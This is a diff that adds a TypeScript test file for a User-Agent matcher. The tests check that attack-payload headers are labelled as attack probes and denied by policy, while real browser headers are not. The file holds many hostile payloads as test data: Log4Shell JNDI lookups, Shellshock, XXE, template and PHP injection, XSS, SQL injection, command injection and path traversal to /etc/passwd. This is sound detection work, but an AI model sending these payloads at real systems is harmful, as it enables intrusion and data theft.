@@ -1,0 +1,127 @@
+// Attack probes: a User-Agent that is an attack payload is named by the attack it tries
+// (data/README.md "Attack probes"), found through the matcher's one scan; browsers never are.
+import { describe, expect, it } from 'vitest';
+import { createAccessPolicy, createCatalog, createRobotsRenderer, createEngine, defaultCatalogDocument, isAttackProbeId, isUnlistedAgentId } from '../../src/index.js';
+
+const catalog = createCatalog(defaultCatalogDocument);
+const idOf = (ua: string) => catalog.matchUserAgent(ua)?.id;
+const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
+
+describe('attack probes', () => {
+  it('names a payload by the attack it tries, alone or after a browser header', () => {
+    // Written from each attack's grammar (the CVEs and OWASP pages in data/README.md).
+    const cases: [string, string][] = [
+      ['${jndi:ldap://198.51.100.7:1389/a}', 'log4shell'],
+      ['${${lower:j}ndi:${lower:r}mi://acme.example/x}', 'log4shell'],
+      ['${${::-j}${::-n}${::-d}${::-i}:dns://acme.example/}', 'log4shell'],
+      ['() { :; }; /bin/bash -c "id"', 'shellshock'],
+      ['<!--#exec cmd="ls" -->', 'server-side-include'],
+      [`${CHROME}<esi:include src="http://acme.example/"/>`, 'server-side-include'],
+      ['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>', 'xml-injection'],
+      ['{{7*7}}', 'template-injection'],
+      ['<%= 7 * 7 %>', 'template-injection'],
+      ["';print(md5(1234));$a='", 'code-injection'],
+      ['<?php system($_GET[1]); ?>', 'code-injection'],
+      [`${CHROME}"><script>alert(1)</script>`, 'cross-site-scripting'],
+      ['javascript:alert(document.domain)', 'cross-site-scripting'],
+      [`${CHROME}%22%3E%3Cscript%3Ealert(1)%3C/script%3E`, 'cross-site-scripting'],
+      ["' OR '1'='1", 'sql-injection'],
+      [`${CHROME}' AND 4321=4321-- x`, 'sql-injection'],
+      ['1 UNION ALL SELECT NULL,NULL,version()--', 'sql-injection'],
+      ['(select convert(int,CHAR(65)))', 'sql-injection'],
+      ['1 AND SLEEP(5)', 'sql-injection'],
+      ['-1/**/or/**/2=2', 'sql-injection'],
+      [`${CHROME} ORDER BY 3--`, 'sql-injection'],
+      ['$(nslookup x1.acme.example)', 'command-injection'],
+      [`${CHROME}|| ping -c 3 127.0.0.1`, 'command-injection'],
+      ['a; cat /etc/issue', 'command-injection'],
+      ['../../../../windows/win.ini', 'path-traversal'],
+      ['..%2f..%2f..%2fetc%2fpasswd', 'path-traversal'],
+      ['....//....//etc/hosts', 'path-traversal'],
+      [`../${CHROME}`, 'path-traversal'],
+      ['php://filter/convert.base64-encode/resource=index.php', 'path-traversal'],
+    ];
+    for (const [ua, kind] of cases) expect({ ua, id: idOf(ua) }).toEqual({ ua, id: `probe:${kind}` });
+  });
+
+  it('the payload wins over the product the header borrows, but a scanner that names itself keeps its name', () => {
+    expect(idOf("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' OR 1=1--")).toBe('probe:sql-injection');
+    expect(idOf('curl/8.5.0 ${jndi:ldap://acme.example/a}')).toBe('probe:log4shell');
+    expect(idOf('AcmeBot/1.0 () { :;}; echo; /bin/id')).toBe('probe:shellshock');
+    expect(idOf("sqlmap/1.8 (https://sqlmap.org)' AND 1=1-- x")).toBe('sqlmap');
+    expect(idOf('Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:../../etc/passwd)')).toBe('nikto');
+  });
+
+  it('never names a real header whose bytes look like a payload\'s', () => {
+    const headers = [
+      // Locales and device names after ";": Indonesian "id", a Cat phone, an old MSIE update.
+      'Mozilla/5.0 (Linux; U; Android 4.0.4; id; Axioo_PICOpad_GIM Build/IMM76D) AppleWebKit/528.5+ (KHTML, like Gecko) Version/3.1.2 Mobile Safari/525.20.1 UCBrowser/8.7.0.315',
+      'Mozilla/5.0 (Linux; Android 4.0.4; Cat Tablet Android 4.0.4 Build/IMM76D) AppleWebKit/535.19 (KHTML, like Gecko) Chrome/18.0.1025.166 Safari/535.19',
+      'Mozilla/2.0 (compatible; MSIE 3.02; Update a; AOL 3.0; Windows 95)',
+      // Unfilled placeholders are broken clients, not attacks.
+      'Mozilla/5.0 (Linux; Android 4.4.2; xx; ${ro.product.subbrand} ${ro.product.submodel} Build/E0005.00) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/30.0.0.0 Mobile Safari/537.36',
+      '{{.custom_user_agent}}',
+      // Quotes, "=" and "&" in app headers; "select", "union" and "script" as ordinary words.
+      `${CHROME} [FBAN/FBIOS;FBAV/450.0.0.38.108;FBBV/560846037;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.1.2;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]`,
+      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 app="News" version="5.2"',
+      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Select Union/2.1 Script',
+      'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727; Media Center PC 6.0; .NET4.0C; .NET4.0E) & more',
+    ];
+    for (const ua of headers) expect({ ua, probe: isAttackProbeId(idOf(ua) ?? '') }).toEqual({ ua, probe: false });
+  });
+
+  it('costs time linear in the header, whatever a crafted payload repeats', () => {
+    const cost = (ua: string): number => {
+      let least = Infinity;
+      for (let run = 0; run < 5; run++) {
+        const started = performance.now();
+        for (let i = 0; i < 3; i++) idOf(ua);
+        least = Math.min(least, performance.now() - started);
+      }
+      return least;
+    };
+    for (const unit of ['union /*', "' or 1", '${', '() {', 'select ', '{{7', '<!--#', 'case when ', '../', "' + function("]) {
+      const header = (length: number) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
+      cost(header(2_000));
+      cost(header(16_000));
+      const ratio = cost(header(16_000)) / cost(header(2_000));
+      expect({ unit, linear: ratio < 24 }).toEqual({ unit, linear: true });
+    }
+  });
+
+  it('its id names it again, it is outside the catalog and robots.txt, and identification says not verifiable', async () => {
+    const agent = catalog.matchUserAgent('${jndi:ldap://acme.example/a}')!;
+    expect(catalog.getAgent('probe:log4shell')).toBe(agent);
+    expect({ type: agent.type, operator: agent.operator, tokens: agent.robots_tokens, listed: !isUnlistedAgentId(agent.id) }).toEqual({ type: 'Security Scanner', operator: 'Unknown', tokens: [], listed: false });
+    expect(catalog.agents.some((a) => a.id.startsWith('probe:'))).toBe(false);
+    expect(catalog.getAgent('probe:nothing')).toBeUndefined();
+    await expect(createEngine().identify({ id: 'r1', request_headers: { 'user-agent': "' OR '1'='1" } })).resolves.toEqual({
+      id: 'r1',
+      result: 'not_verifiable',
+      agent_id: 'probe:sql-injection',
+      agent_token: '',
+      agent_url: 'https://owasp.org/www-community/attacks/SQL_Injection',
+      agent_type_name: 'Security Scanner',
+      operator_name: 'Unknown',
+    });
+    // Off with the unlisted agents: the catalog names only what it lists.
+    const strict = createCatalog(defaultCatalogDocument, { unlistedAgents: false });
+    expect(strict.matchUserAgent('${jndi:ldap://acme.example/a}')).toBeUndefined();
+    expect(strict.getAgent('probe:log4shell')).toBeUndefined();
+  });
+
+  it('a policy denying Security Scanners turns probes away, and its robots.txt names none', async () => {
+    const engine = createEngine();
+    const policy = createAccessPolicy({ denyAgentTypes: ['Security Scanner'], robotsTxt: true }, engine.catalog);
+    const identification = await engine.identify({ request_headers: { 'user-agent': `${CHROME}"><svg onload=alert(1)>` } });
+    expect(identification).toMatchObject({ agent_id: 'probe:cross-site-scripting' });
+    expect(policy.decide(identification)).toMatchObject({ rule: 'deny-agent-type', action: 'deny' });
+    const robots = createRobotsRenderer(engine.catalog).robotsTxt({ agent_types: ['Security Scanner'] });
+    expect(robots).toContain('User-agent: sqlmap');
+    for (const kind of ['log4shell', 'shellshock', 'sql-injection', 'cross-site-scripting', 'path-traversal']) {
+      const probe = engine.catalog.getAgent(`probe:${kind}`)!;
+      expect(robots).not.toContain(probe.id);
+      expect(robots).not.toContain(probe.name);
+    }
+  });
+});
